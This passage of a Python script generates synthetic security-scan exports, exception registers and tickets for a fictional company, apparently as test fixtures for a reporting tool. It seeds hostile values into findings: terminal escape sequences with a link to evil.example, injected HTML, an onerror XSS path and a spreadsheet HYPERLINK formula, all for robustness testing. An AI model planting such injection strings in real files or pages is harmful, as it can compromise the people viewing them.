0 | 10017 | Cross-Domain JavaScript Source File Inclusion | 1 | 2 | 829 | https://cdn.example.org/widget.js
0 | 10027 | Information Disclosure - Suspicious Comments | 0 | 1 | 615 |
0 | 10098 | Cross-Domain Misconfiguration | 2 | 2 | 264 |
0 | 10202 | Absence of Anti-CSRF Tokens | 2 | 1 | 352 |
0 | 10049 | Storable and Cacheable Content | 0 | 2 | 524 |
0 | 90033 | Loosely Scoped Cookie | 0 | 1 | 565 |
0 | 90003 | Sub Resource Integrity Attribute Missing | 2 | 3 | 345 |
1 | 10110 | Dangerous JS Functions | 1 | 1 | 749 |
1 | 10024 | Information Disclosure - Sensitive Information in URL | 0 | 2 | 598 | user_email
2 | 10003 | Vulnerable JS Library | 2 | 2 | 1395 |
2 | 90022 | Application Error Disclosure | 1 | 2 | 550 |
"""
DAST_CHECKS = """
0 | 16.7 | Strict-Transport-Security header missing or invalid | Low | 16 | GET | / |
0 | 16.9 | Content-Security-Policy analysis | Info | 1021 | GET | /cart |
0 | 16.2 | Server header exposes version information | Low | 200 | GET | /health |
0 | 16.1 | Missing Content-Type header | Low | 173 | GET | /export |
0 | 319.1 | Mixed Content | Info | 319 | GET | /help |
0 | 352.1 | Absence of anti-CSRF tokens | Medium | 352 | POST | /address |
0 | 359.1 | Exposure of Private Personal Information (PII) to an unauthorized actor (credit card) | Medium | 359 | GET | /orders/1001 |
0 | 548.1 | Exposure of information through directory listing | Low | 548 | GET | /static/ |
0 | 598.2 | Use of GET request method with sensitive query strings (password) | Medium | 598 | GET | /login | password
0 | 601.1 | URL redirection to untrusted site ('open redirect') | Low | 601 | GET | /go | next
0 | 614.1 | Sensitive cookie without Secure attribute | Low | 614 | GET | /session |
0 | 693.1 | Missing X-Content-Type-Options: nosniff | Low | 693 | GET | /app.js |
0 | 1004.1 | Sensitive cookie without HttpOnly attribute | Low | 1004 | GET | /session |
0 | 209.1 | Generation of error message containing sensitive information | Low | 209 | GET | /search | q
1 | 22.1 | Improper limitation of a pathname to a restricted directory (Path traversal) | High | 22 | GET | /download | name
2 | 89.1 | SQL Injection | High | 89 | GET | /report | sort
"""
API_CHECKS = "General Fuzzing | JSON Fuzzing | Form Body Fuzzing | CORS | Cleartext Authentication | DNS Rebinding".split(" | ")
# GitLab secret detection. group | rule | severity | file. One secret a file, each plainly a fake.
SECRETS = """
payments-api 0 generic-api-key High config/sandbox.properties
payments-api 0 password-in-url High deploy/compose.override.yaml
payments-api 0 webhook-signing-key Medium src/test/resources/webhook.json
payments-api 2 jdbc-password Medium scripts/nightly.sh
checkout 0 generic-api-key High src/main/resources/application-local.yaml
checkout 0 session-secret Medium docker/env.sample
checkout 1 private-key Critical certs/old/test-signer.pem
storefront 0 analytics-write-key Medium src/config/tracking.js
storefront 0 generic-api-key High .env.staging
storefront 0 map-tile-token Low src/components/map.js
storefront 2 mail-api-key Medium scripts/newsletter.js
legacy-promo 0 password-in-url High promo/db.js
legacy-promo 0 ftp-password Medium tools/upload.sh
legacy-promo 0 session-secret Medium promo/app.js
backoffice 0 django-secret-key High backoffice/settings/dev.py
backoffice 0 generic-api-key Medium backoffice/reports/client.py
backoffice 0 smtp-password Medium deploy/mail.env
backoffice 2 ldap-bind-password Medium deploy/ldap.conf
"""
TRIVY_SECRETS = {"repo-checkout": "generic-token:Generic token:test/fixtures/replay.http",
                 "repo-storefront": "generic-token:Generic token:e2e/setup.js",
                 "repo-parcel": "carrier-key:Carrier API key:server/carriers/demo.json",
                 "repo-login": "signing-seed:Token signing seed:testdata/seed.txt",
                 "repo-infra": "backend-password:State backend password:envs/sandbox/backend.hcl"}
CRASHES = """
Heap-buffer-overflow READ 4 | parse_barcode | High | 122 | 08-01 | -
Index-out-of-range | decode_gs1 | Medium | 129 | 08-01 | 09-10
Stack-overflow | render_block | Medium | 674 | 08-01 | -
Integer-overflow | scale_raster | Medium | 190 | 09-10 | -
Null-dereference READ | load_font | Low | 476 | 10-01 | -
"""

# ---------------------------------------------------------------------------------------------------------------
# Registers
# ---------------------------------------------------------------------------------------------------------------
# The security team's register, an Excel sheet. in months | the row:
# ID | Service | CVE | Rule ID | Component | Path | Disposition | Justification | Approved By | Approval Date | Expiry Date | Status | Compensating controls
EXCEPTIONS = """
08 09 10 | EX-2026-003 | payments-api | CVE-2022-42003 | | | | Accepted | Wrapper arrays are refused by our own parser settings | Head of AppSec | 2026-07-13 | 2026-11-30 | Active | UNWRAP_SINGLE_VALUE_ARRAYS is off
08 09 10 | EX-2026-005 | checkout | CVE-2016-1000027 | | | | Accepted | HttpInvoker is not used; the fix needs Spring 6 | CTO | 2026-06-29 | Never | Active | No HttpInvoker bean, checked in CI
08 09 10 | EX-2026-006 | login | CVE-2023-39325 | | | | Accepted | HTTP/2 ends at the proxy | Head of AppSec | 2026-06-16 | 2026-09-15 | Active | HTTP/2 limits at the edge
08 09 10 | EX-2026-007 | backoffice | | | | | Accepted | Internal tool, will be replaced next year | Head of IT | 2026-05-18 | 2027-05-31 | Active | VPN only
08 09 10 | EX-2026-008 | search-api | CVE-2019-11253 | | | | Accepted | Component was removed in spring | Head of AppSec | 2026-02-25 | 2026-12-31 | Active |
08 09 10 | EX-2026-009 | catalog-api | | PREDICTABLE_RANDOM | | src/main/java/example/kestrelmoor/catalog/** | False positive | Random is used for cache jitter only | Head of AppSec | 2026-07-20 | 2027-01-31 | Active |
   09 10 | EX-2026-011 | storefront | CVE-2022-46175 | | json5 | | Accepted | Build tool only, never in the bundle | Head of AppSec | 2026-09-07 | 2027-03-31 | Active | Bundle content check
   09 10 | EX-2026-012 | ledger | CVE-2023-25194 | | | | Accepted | =HYPERLINK("https://kestrelmoor.example/risk/12","see the risk paper") | Head of AppSec | 2026-09-14 | TBD | Active | No Connect workers
      10 | EX-2026-013 | fraud-scoring | CVE-2022-22817 | | | | Accepted | Waiting for the model image to be rebuilt | | | 2026-12-31 | Requested |
08 09    | EX-2026-010 | parcel-tracker | CVE-2021-3749 | | axios | | Accepted | Only our own service is called | Head of AppSec | 2026-07-06 | 2026-12-31 | Active |
      10 | EX-2026-010 | parcel-tracker | CVE-2021-3749 | | axios | | Accepted | Only our own service is called | Head of AppSec | 2026-07-06 | 2026-12-31 | Revoked | The upgrade is possible after all
"""
# The logistics team keeps its own, a table in its wiki: in months | ID | Service | CVE | Component | Reason | Approved by | Granted | Expires | Status
WIKI_EXCEPTIONS = """
08 09 10 | LOG-EX-1 | parcel-tracker | CVE-2020-8203 | `lodash` | Keys never come from outside \\| reviewed in `#parcel-dev` | Product owner, Logistics | 2026-07-28 | 2026-12-31 | Approved
08 09 10 | LOG-EX-2 | warehouse-sync | CVE-2024-21907 | `Newtonsoft.Json` | Depth limit is set, see [the note](https://wiki.kestrelmoor.example/ws/json) | Product owner, Logistics | 2026-07-10 | 2026-10-09 | Approved
   09 10 | LOG-EX-3 | parcel-tracker | CVE-2022-24999 | `qs` | **Proxy** limits the query length | Product owner, Logistics | 2026-09-21 | 2027-01-31 | Approved
"""
# Incidents, a project of the tracker. id | detected | started | resolved | severity | service | cause | known before | the resolution is known from month
INCIDENTS = """
INC-7 | 2026-07-22T08:40:00Z | 2026-07-21T22:10:00Z | 2026-07-22T16:05:00Z | medium | backoffice | session fixation in the staff login | false | 08
INC-8 | 2026-09-17T05:12:00Z | 2026-09-16T23:48:00Z | 2026-09-18T11:30:00Z | high | storefront | voucher codes could be enumerated; nobody had looked there before | false | 09
INC-9 | 2026-10-20T13:25:00Z | 2026-10-19T18:02:00Z | 2026-10-22T09:15:00Z | high | checkout | CVE-2022-22965 in spring-beans, open and past its due date since August | true | 10
"""
# The tracker's tickets. key | service ("-": the field is empty) | CVE | severity | created | assignee ("-": nobody) | steps: day and
# status, and with ":" the resolution. An export holds all tickets that there were at the end of its month, as they were then.
TICKETS = """
SEC-101 | payments-api   | CVE-2021-44228 | Critical | 08-06 | Nadia Fell | 08-07 In Progress, 09-21 Done: Done
SEC-102 | payments-api   | CVE-2021-45046 | Critical | 08-06 | Nadia Fell | 08-07 In Progress, 09-21 Done: Done
SEC-103 | checkout       | CVE-2022-22965 | Critical | 08-07 | Ola Brandt | 08-10 In Progress, 09-04 Done: Done, 10-20 Reopened
SEC-104 | login          | CVE-2024-45337 | Critical | 08-07 | Ines Vale  | 09-01 In Progress, 10-12 Done: Done
SEC-105 | storefront     | CVE-2021-44906 | Critical | 08-10 | Timo Reed  | 08-17 In Progress, 10-02 Done: Done
SEC-106 | search-api     | CVE-2019-11253 | Medium   | 08-12 | -          | 08-13 Done: Won't Do
SEC-107 | ledger         | CVE-2021-42392 | Critical | 08-20 | Nadia Fell | 09-01 In Progress, 09-16 Done: Done
SEC-108 | catalog-api    | CVE-2022-42889 | Critical | 08-20 | -          |
SEC-109 | backoffice     | CVE-2022-34265 | Critical | 08-21 | Ravi Lund  | 09-10 In Progress, 10-07 Done: Done
SEC-110 | -              | CVE-2021-23369 | Critical | 08-21 | -          |
SEC-111 | warehouse-sync | CVE-2021-26701 | Critical | 08-27 | Mara Quist | 10-05 In Progress
SEC-112 | fraud-scoring  | CVE-2022-22817 | Critical | 09-24 | -          |
SEC-113 | label-printer  | CVE-2023-44487 | High     | 09-28 | Mara Quist | 10-06 In Progress
SEC-114 | parcel-tracker | CVE-2025-7783  | Critical | 10-15 | Mara Quist | 10-16 In Progress
"""
# The same tracker's risk acceptances: tickets that the dictionary makes exceptions. key | service | CVE | created | approved | expires | reason
RISKS = """
RISK-3 | label-printer | CVE-2023-45283 | 09-08 | 09-10 | 2026-12-31 | Label files have names of our own, on Linux only
RISK-4 | search-api    | CVE-2023-45288 | 10-26 | -     | 2026-12-31 | The proxy in front limits frames
"""
# The catalogue of exploited vulnerabilities, as far as it matters here; one is added in September. CVE | vendor | product | added | due
KEV = """
CVE-2021-44228 | Apache     | Log4j2           | 2021-12-10 | 2021-12-24
CVE-2022-22965 | VMware     | Spring Framework | 2022-04-04 | 2022-04-25
CVE-2021-45046 | Apache     | Log4j2           | 2023-05-01 | 2023-05-22
CVE-2023-44487 | IETF       | HTTP/2           | 2023-10-10 | 2023-10-31
CVE-2025-24813 | Apache     | Tomcat           | 2025-04-01 | 2025-04-22
CVE-2022-42889 | Apache     | Commons Text     | 2026-09-14 | 2026-10-05
CVE-2014-6271  | GNU        | Bash             | 2022-01-28 | 2022-07-28
"""
# at | category | source_tool | product | service | target | entries | outcome
ACTIVITIES = """
2026-08-14T12:00:00Z | pentest      | external-pentest | Pay       | payments-api   | | 4 | passed
2026-08-27T09:00:00Z | review       | design-review    | Shop      | checkout       | | 2 | passed
2026-09-10T12:00:00Z | threat_model | threat-model     | Pay       | ledger         | | 6 | passed
2026-09-24T15:00:00Z | pentest      | external-pentest | Shop      | storefront     | | 5 | passed
2026-09-29T10:00:00Z | review       | code-review      | Logistics | parcel-tracker | | 3 | passed
2026-10-08T09:00:00Z | review       | design-review    | Platform  | login          | | 1 | passed
2026-10-15T12:00:00Z | pentest      | external-pentest | Platform  | login          | | 7 | partial
2026-10-27T09:00:00Z | bug_bounty   | bounty-programme | Shop      |                | | 2 | passed
"""
# at | metric | decision | owner | type | area
ACTIONS = """
2026-08-31T15:00:00Z | critical_older_than_sla | Criticals of tier 1 are discussed in the weekly stand-up until none is late | team-payments | quick_win | verification
2026-09-30T15:00:00Z | scanner_coverage | ZAP and secret detection for login and backoffice; dependency scanning of catalog-api repaired | team-platform | strategic | verification
2026-10-30T15:00:00Z | missing_owner_ratio | Name an owner for infra-live and the core-eu1 cluster | team-platform | quick_win | infrastructure
2026-10-30T15:30:00Z | exceptions_without_expiry | Every exception gets an end date of at most a year | team-payments | strategic | other
"""
# service: releases a month and the first version; pipelines with gates, and from which month
RELEASING = {"payments-api": (3, 31), "checkout": (3, 12), "storefront": (4, 50), "ledger": (1, 8), "catalog-api": (2, 22),
             "search-api": (1, 5),
             "login": (2, 17), "parcel-tracker": (2, 40), "backoffice": (1, 3)}
GATED = {"payments-api": "08", "checkout": "08", "storefront": "08", "ledger": "08", "catalog-api": "08", "search-api": "08", "login": "08",
         "parcel-tracker": "08", "backoffice": "08", "fraud-scoring": "09", "label-printer": "09", "shop-app": "10"}
GATE_FAILS = {"08": 0.34, "09": 0.27, "10": 0.16}        # how often a gate fails: it gets better

# ===============================================================================================================
# The model
# ===============================================================================================================
def dice(*key):
    """A number in [0, 1) that depends on nothing but its key."""
    return int.from_bytes(hashlib.sha256("|".join(map(str, key)).encode()).digest()[:7], "big") / 2 ** 56

def pick(seq, *key):
    return seq[int(dice(*key) * len(seq))]

def shuffled(seq, *key):
    return sorted(seq, key=lambda x: dice(*key, x))

def hexes(n, *key):
    return hashlib.sha512("|".join(map(str, key)).encode()).hexdigest()[:n]

def uuid(*key):
    h = hexes(32, *key)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

def D(text):
    """'08-05' of 2026, or a whole date."""
    return datetime.datetime.strptime(text if len(text) == 10 else "2026-" + text, "%Y-%m-%d")

def rows(table, cells=None):
    """The lines of a table, cut at | (an escaped one stays), `cells` at most, blanks off."""
    out = []
    for line in table.strip("\n").splitlines():
        if line.strip():
            parts = re.split(r"(?<!\\)\|", line, maxsplit=(cells or 0) - 1 if cells else 0)
            out.append([p.strip().replace("\\|", "|") for p in parts])
    return out

def month_of(t):
    return t.strftime("%Y-%m")

def month_start(m):
    return D(m + "-01")

def month_end(m):
    """B: the first day after the month."""
    y, k = int(m[:4]), int(m[5:])
    return datetime.datetime(y + k // 12, k % 12 + 1, 1)

DAY = datetime.timedelta(days=1)
Scan = collections.namedtuple("Scan", "stream at ok file dated")      # dated: the file itself says when

class Stream:
    def __init__(self, row):
        self.id, self.writer, stem, name, owner, target, schedule = row[:7]
        opts = dict(o.split("=") for o in (row[7] if len(row) > 7 else "").split())
        self.service, self.opts, self.lang = owner.strip("-") or None, opts, opts.get("lang")
        self.tool = TOOL.get(self.writer) or SAST_TOOL[self.lang]
        self.raw_target = target
        self.target = {"trivy_image": f"{REG}/{target}", "gitlab_cs": f"{REG}/{target}", "trivy_repo": f"{GIT}/{target}",
                       "codeql": f"{GIT}/{target}", "trivy_k8s": target, "zap": target, "zap_xml": target,
                       "dependabot": f"{HUB}/{target}", "gitlab_dast": target,
                       "gitlab_api": target}.get(self.writer)
        days = [D(d) for d in SCHEDULES[schedule].split() if opts.get("from", "0") <= month_of(D(d)) <= opts.get("to", "9")]
        a_month = collections.Counter(map(month_of, days))
        self.scans = []
        for d in days:
            at = d if schedule == "M" else d + datetime.timedelta(hours=1, seconds=int(dice("time", self.id, d) * 5 * 3600))
            end = ".json.gz" if "registry" in stem else ".xml" if self.writer == "zap_xml" else ".sarif" if self.writer == "codeql" and name == "-" else ".json"
            file = stem + (f".{d:%Y-%m-%d}" if a_month[month_of(d)] > 1 else "") + ("" if name == "-" else "_" + name) + end
            self.scans.append(Scan(self, at, opts.get("fail") != month_of(d), file, schedule != "M"))

STREAM = {r[0]: Stream(r) for r in rows(STREAMS)}
ALL_SCANS = sorted((s for st in STREAM.values() for s in st.scans), key=lambda s: (s.at, s.file, s.stream.id))

class Flaw:
    """One weakness of one service. It is present in its spans of time; a scan of one of its streams then reports it."""
    def __init__(self, key, kind, severity, streams, spans, data, story=None):
        self.key, self.kind, self.severity, self.streams, self.spans, self.data, self.story = key, kind, severity, list(streams), spans, data, story
        self.service = STREAM[self.streams[0]].service
        self.scope = self.service or STREAM[self.streams[0]].target
        self.detected = data.get("detected")            # where the export itself says when it was first seen
        self.said = data.get("said", "open")            # the state that the export gives it
        self.order = dice("order", *key)

    def present(self, at):
        return any(a <= at < b for a, b in self.spans)

    def of(self, name, stream, default=None):
        return self.data.get(f"{stream.id}:{name}", self.data.get(name, default))

FLAWS = {}

def flaw(key, kind, severity, streams, spans, data, story=None):
    """Adds a flaw; one that is there already is seen by more streams from now on."""
    streams = [streams] if isinstance(streams, str) else streams
    key = (STREAM[streams[0]].service or STREAM[streams[0]].target, kind) + tuple(key)
    if key in FLAWS:
        FLAWS[key].streams += [s for s in streams if s not in FLAWS[key].streams]
    else:
        FLAWS[key] = Flaw(key, kind, severity, streams, spans, data, story)
    return FLAWS[key]

FOREVER, ALWAYS = D("2027-12-31"), D("2026-01-01")

def first_scan(streams, since):
    return min((s.at for i in streams for s in STREAM[i].scans if s.ok and s.at >= since), default=None)

# How soon things are fixed: severity -> for what appeared in August, September, October: share fixed within four weeks,
# share fixed later. It gets better from month to month.
REMEDY = {"critical": [(0, 0)] * 3, "high": [(0.60, 0.25), (0.97, 0), (0.5, 0)], "medium": [(0.06, 0.22), (0.10, 0.1), (0.1, 0)],
          "low": [(0.03, 0.15), (0.05, 0.05), (0.05, 0)], "info": [(0.04, 0.08), (0.04, 0), (0, 0)]}

def gone(severity, since, streams, *key):
    """The day from which the flaw is no longer there (FOREVER where nobody fixes it)."""
    first = first_scan(streams, since)
    if not first:
        return FOREVER
    soon, later = REMEDY[severity][max(0, min(2, first.month - 8))]
    chance, r = dice("fixed", *key), dice("when", *key)
    if chance < soon:
        return first + DAY * (3 + int(r * 22))
    if chance < soon + later:
        return first + DAY * (29 + int(r * 42))
    return FOREVER

def life(severity, since, streams, *key):
    return [(since, gone(severity, since, streams, *key))]

# --- packages --------------------------------------------------------------------------------------------------
def versions(text):
    return {name: names.rsplit("=", 1)[1] for names in re.split(r"\s{2,}|\n", text) for name in names.rsplit("=", 1)[0].split()}

OS_VERSION = {"debian": versions(DEBIAN_VERSIONS), "alpine": versions(ALPINE_VERSIONS)}
OS_ROWS = {"debian": rows(DEBIAN), "alpine": rows(ALPINE)}
LANG_ROWS = {"maven": rows(MAVEN), "npm": rows(NPM), "pypi": rows(PYPI), "golang": rows(GOLANG), "nuget": rows(NUGET)}

def package_pool(eco):
    """(group, eco, package, version, id, fixed, severity, score, cwe, title) of every row and package of an ecosystem."""
    if eco in OS_ROWS:
        return [(int(g), eco, p, OS_VERSION[eco][p], cve, fix, sev, float(score), cwe, title)
                for g, cve, pkgs, fix, sev, score, cwe, title in OS_ROWS[eco] for p in pkgs.split()]
    return [(int(g), eco, p, v, cve, fix, sev, float(score), cwe, title) for g, p, v, cve, fix, sev, score, cwe, title in LANG_ROWS[eco]]

def became_known(cve, group):
    return D(f"{8 + group:02}-01") + DAY * int(dice("known", cve) * 24)

# A package whose version goes up and stays vulnerable: (service, package) -> from when which version
BUMPS = {("storefront", "lodash"): [("2026-01-01", "4.17.15"), ("2026-08-28", "4.17.19"), ("2026-09-25", "4.17.20")]}

def package_flaw(streams, item, spans, story=None):
    group, eco, name, version, cve, fixed, severity, score, cwe, title = item
    data = dict(eco=eco, name=name, version=version, cve=cve, fixed=None if fixed == "-" else fixed, score=score, cwe=int(cwe), title=title,
                published=became_known(cve, group) - 2 * DAY if group
                else D(f"{cve[4:8]}-{1 + int(dice('pm', cve) * 12):02}-{1 + int(dice('pd', cve) * 28):02}"))
    return flaw((cve, eco, name), "pkg", severity, streams, spans, data, story)

def make_packages():
    for service, eco, name, version, cve, fixed, cwe, streams, since, until, title in rows(CRITICAL_PACKAGES, 11):
        spans = [(D(since), FOREVER if until == "-" else D(until))]
        score = {"CVE-2021-44228": 10.0, "CVE-2021-45046": 9.0, "CVE-2024-45337": 9.1, "CVE-2024-37371": 9.1,
                 "CVE-2024-38821": 9.1}.get(cve, 9.8)
        package_flaw(streams.split(), (0, eco, name, version, cve, fixed, "critical", score, cwe, title), spans)
    package_flaw("img-storefront", (0, "npm", "ansi-regex", "3.0.0", "CVE-2021-3807", "3.0.1", "high", 7.5, "1333",
                 "nodejs-ansi-regex: regular expression denial of service"), [(ALWAYS, D("08-25")), (D("10-05"), FOREVER)], "reopened")
    package_flaw(["img-storefront", "repo-storefront"], (0, "npm", "lodash", "4.17.15", "CVE-2021-23337", "4.17.21", "high", 7.3, "94",
                 "nodejs-lodash: command injection via template"), [(ALWAYS, FOREVER)], "version bump")
    package_flaw("img-storefront", next(i for i in package_pool("npm") if i[4] == "CVE-2020-8203"), [(ALWAYS, D("08-28"))])
    package_flaw("img-cron", (0, "debian", "binutils", "2.40-2", "CVE-2017-13716", "-", "low", 5.5, "400",
                 "\x1b[2J\x1b[31mbinutils\x1b[0m: \x1b]8;;http://evil.example/\x07memory leak\x1b]8;;\x07 with\x00 the C++ symbol demangler"),
                 [(ALWAYS, FOREVER)], "hostile: terminal")
    for covered in ("payments-api CVE-2022-42003 maven img-payments", "login CVE-2023-39325 golang img-login",
                    "ledger CVE-2023-25194 maven img-ledger",
                    "storefront CVE-2022-46175 npm img-storefront", "parcel-tracker CVE-2021-3749 npm img-parcel,ds-parcel",
                    "parcel-tracker CVE-2020-8203 npm img-parcel,ds-parcel", "parcel-tracker CVE-2022-24999 npm img-parcel",
                    "warehouse-sync CVE-2024-21907 nuget cs-warehouse"):
        service, cve, eco, streams = covered.split()                      # what the exceptions are about stays there
        package_flaw(streams.split(","), next(i for i in package_pool(eco) if i[4] == cve and i[2] != "express"), [(ALWAYS, FOREVER)],
                     "exception")
    for i, n in PACKAGE_SHARE.items():
        st, (n_os, n_lang, skip) = STREAM[i], tuple(n) + (0,) * (3 - len(n))
        for eco, count, start in ((st.opts.get("os"), n_os, 0), (st.lang, n_lang, skip)):
            if not count:
                continue
            pool = package_pool(eco)
            initial = shuffled([p for p in pool if p[0] == 0], "pool", st.service)[start:start + count]
            late = [p for p in pool if p[0] > 0 and dice("late", st.service or i, p) < 0.56]
            for item in initial + late:
                since = ALWAYS if item[0] == 0 else became_known(item[4], item[0])
                streams = [i]
                for other in ALSO_SEEN.get(i, []):
                    if dice("also", other, item) < (0.3 if eco == st.lang else 0.16) and (eco not in OS_ROWS
                            or not other.startswith("ds-")):
                        streams.append(other)
                f = package_flaw(streams, item, life(item[6], since, streams, st.service, item[4], item[2]))
                if st.writer == "dependabot":                          # an alert says when it was raised; they are on since September
                    f.detected = max(since, D("09-03"))
    failed = [f for f in FLAWS.values() if f.streams == ["ds-catalog"] and f.spans[0][0] == ALWAYS]
    for f in failed[:3]:                    # gone before the September scan, which failed: only October can say so
        f.spans, f.story = [(ALWAYS, D("09-05"))], "failed scan"

# --- code ------------------------------------------------------------------------------------------------------
def sast_rules(name):
    return [dict(zip(("group", "id", "level", "conf", "cwe", "message"), r)) for r in rows(SAST_RULES[name], 6)]

LONG_TITLE = ("Untrusted input flows through every layer of the promotion service before it reaches the template engine, " * 40)[:2999] + "."
SEVERITY = {"ERROR": "high", "WARNING": "medium", "INFO": "low"}

def sast_severity(writer, rule):
    if writer == "codeql":
        score = float(rule["conf"])
        return "critical" if score >= 9 else "high" if score >= 7 else "medium" if score >= 4 else "low"
    if writer == "gosec":
        return {"error": "high", "warning": "medium", "note": "low"}[rule["level"]]
    return SEVERITY.get(rule["level"], rule["level"].lower())

def source_file(place, n, service):
    noun, kind = NOUNS[n % len(NOUNS)], KINDS[int(dice("kind", service, n) * len(KINDS))]
    return PLACES[place].format(noun=noun, nounlow=noun.lower(), kind=kind, kindlow=kind.lower(), low=noun.lower())

def code_flaw(streams, rule_list, rule_id, file, line, spans, story=None, n=0, **data):
    st = STREAM[streams if isinstance(streams, str) else streams[0]]
    rule = next(r for r in sast_rules(rule_list) if r["id"] == rule_id)
    data = dict(rule=rule, file=file, line=line, cwe=int(rule["cwe"].split(":")[0]), **data)
    return flaw((rule_id, file, n), "sast", sast_severity(st.writer, rule), streams, spans, data, story)

def make_code():
    always = [(ALWAYS, FOREVER)]
    java = "src/main/java/example/kestrelmoor/"
    code_flaw("ql-payments", "codeql-java", "java/path-injection", java + "receipts/ReceiptDownload.java", 88, always, "moved line",
              lines={"2026-08": 88, "2026-09": 97, "2026-10": 131}, detected=D("2026-07-23"))
    code_flaw("gs-catalog", "findsecbugs", "WEAK_MESSAGE_DIGEST_MD5", java + "catalog/EtagFilter.java", 41, always, "moved line",
              lines={"2026-08": 41, "2026-09": 44, "2026-10": 60})
    code_flaw("sg-checkout", "semgrep-java", "java.lang.security.audit.unsafe-reflection.unsafe-reflection",
              java + "checkout/PluginLoader.java", 57, always, "renamed file",
              files={"2026-08": java + "checkout/PluginLoader.java", "2026-09": java + "checkout/PluginLoader.java",
                     "2026-10": java + "checkout/plugins/PluginLoader.java"})
    code_flaw("sg-parcel", "semgrep-js", "javascript.sequelize.security.audit.sequelize-injection-express.express-sequelize-injection",
              "server/reports/query.js", 64,
              [(ALWAYS, D("09-05")), (D("10-05"), FOREVER)], "reopened", lines={"2026-08": 64, "2026-10": 71})
    for ql, sg, file, line, off in (("java/xss", "java.lang.security.audit.xss.no-direct-response-writer.no-direct-response-writer",
                                     "checkout/PrintView.java", 112, 1),
                                    ("java/unvalidated-url-redirection",
                                     "java.spring.security.audit.spring-unvalidated-redirect.spring-unvalidated-redirect",
                                     "checkout/ReturnUrl.java", 38, 0),
                                    ("java/insecure-cookie", "java.lang.security.audit.cookie-missing-secure-flag.cookie-missing-secure-flag", "checkout/CartCookie.java", 29, 2)):
        other = next(r for r in sast_rules("semgrep-java") if r["id"] == sg)
        code_flaw(["ql-checkout", "sg-checkout"], "codeql-java", ql, java + file, line, always, "two code scanners",
                  detected=D("2026-07-02"),
                  **{"sg-checkout:rule": other, "sg-checkout:line": line + off})
    for n, (rule, file, status, why) in enumerate((("java/log-injection", "batch/NightlySummary.java", "accepted",
                                                    "Batch job, no outside input; reviewed in SEC-204"),
                                  ("java/weak-cryptographic-algorithm", "legacy/PartnerExport.java", "accepted",
                                   "The partner accepts nothing else until March; file is encrypted again in transit"),
                                  ("java/stack-trace-exposure", "admin/DebugPage.java", "underReview", "Is this page reachable?"))):
        code_flaw("ql-payments", "codeql-java", rule, java + file, 40 + 7 * n, always, "suppressed in SARIF", detected=D("2026-06-09"),
                  suppress=(status, why), said="accepted" if status == "accepted" else "open")
    code_flaw("sg-backoffice", "semgrep-python", "python.requests.security.disabled-cert-validation.disabled-cert-validation",
              "backoffice/tests/client.py", 21, always,
              "suppressed in the code", ignored=True, said="accepted")
    code_flaw("sg-backoffice", "semgrep-python", "kestrelmoor.templates.mark-safe", "backoffice/notes/templatetags.py", 33, always,
              "hostile: HTML")
    code_flaw("gs-promo", "njsscan", "markdown_in_title", "promo/mail.js", 18, always, "hostile: Markdown")
    code_flaw("gs-promo", "njsscan", "long_title", "promo/render.js", 77, always, "hostile: 3,000 characters")
    code_flaw("ql-storefront", "codeql-javascript", "js/path-injection", "src/upload/preview.js", 52, always,
              "hostile: right-to-left override", detected=D("2026-07-20"))
    code_flaw("sg-parcel", "semgrep-js", "kestrelmoor.carriers.hard-coded", "server/carriers/config.js", 9, always,
              "hostile: CJK, emoji, Arabic")
    code_flaw("sg-parcel", "semgrep-js", "kestrelmoor.views.raw-output", "server/views/\"><img src=x onerror=alert(1)>/a|b/`tick`.js", 3,
              always, "hostile: path")
    for i, (name, *counts) in SAST_SHARE.items():
        st, rules = STREAM[i], sast_rules(name)
        place = name.split("-")[-1]
        apart = 26 if i == "sg-checkout" else 0                     # two scanners of one service find things in other files
        for group, count in enumerate(counts):
            choice = [r for r in rules if r["group"] == str(group)]
            for n in range(count):
                rule = pick(choice, "rule", i, group, n)
                if name == NOISY[0] and group == 0:
                    rule = choice[0] if dice("noisy", i, n) < NOISY[2] else pick(choice[1:], "rule", i, n)
                file = source_file(place, (n % 13 if group == 0 else 13 + 6 * group + n) + apart, i)
                since = ALWAYS if group == 0 else D(f"{8 + group:02}-02") + DAY * int(dice("since", i, group, n) * 10)
                severity = sast_severity(st.writer, rule)
                data = {}
                if st.writer == "codeql" and group == 0:
                    data["detected"] = D("2026-07-31") - DAY * int(dice("detected", i, n) ** 1.7 * 88)
                spans = life(severity, since, [i], i, group, n)
                if "detected" in data:                          # old ones get worked off, about evenly
                    fixed = data["detected"] + DAY * int(12 + dice("old", i, n) * 22)
                    if fixed < D("08-06"):
                        fixed = D("08-06") + DAY * int(dice("older", i, n) * 72)
                    spans = [(since, fixed if dice("worked", i, n) < 0.66 else FOREVER)]
                code_flaw(i, name, rule["id"], file, 14 + 9 * (n // 13) + int(dice("line", i, n, group) * 6) + 31 * (n % 4), spans, n=n,
                          **data)

# --- everything else --------------------------------------------------------------------------------------------
def make_infrastructure():
    for provider, text in TERRAFORM.items():
        kind, names = TERRAFORM_RESOURCES[provider].split(": ")
        for n, name in enumerate(names.split()):
            since = {0: ALWAYS, 1: D("08-20"), 2: D("09-20")}[0 if dice("infra", name) < 0.8 else 1 + int(dice("infra2", name) * 2)]
            for r, (rule, title, severity, message) in enumerate(rows(text)):
                resource = f"{kind}.{name}"
                flaw((rule, resource), "iac", severity.lower(), "repo-infra", life(severity.lower(), since, ["repo-infra"], rule, resource),
                     dict(rule=rule, title=title, message=message, resource=resource, provider=provider,
                          file=f"envs/{'live' if n % 2 else 'shared'}/{provider}.tf", line=12 + 22 * n, span=14))
    flaw(("AVD-AWS-0107", "aws_security_group.bastion"), "iac", "critical", "repo-infra", [(D("09-01"), D("10-01"))],
         dict(rule="AVD-AWS-0107", title="An ingress security group rule allows traffic from /0",
              message="Security group rule allows ingress from public internet",
              resource="aws_security_group.bastion", provider="ec2", file="envs/shared/ec2.tf", line=19, span=4), "unowned infrastructure")
    flaw(("AVD-AWS-0180", "aws_db_instance.reporting"), "iac", "high", "repo-infra", [(ALWAYS, FOREVER)],
         dict(rule="AVD-AWS-0180", title="</td></table><h1>RDS Publicly Accessible</h1>", message="Instance has Public Access enabled",
              resource="aws_db_instance.reporting", provider="rds", file="envs/live/rds.tf", line=78, span=14), "hostile: HTML")
    for workload in K8S_WORKLOADS.split():
        for rule, title, severity, message in rows(K8S_RULES):
            if dice("k8s", workload, rule) < 0.86:
                flaw((rule, workload), "iac", severity.lower(), "k8s", life(severity.lower(), ALWAYS, ["k8s"], rule, workload),
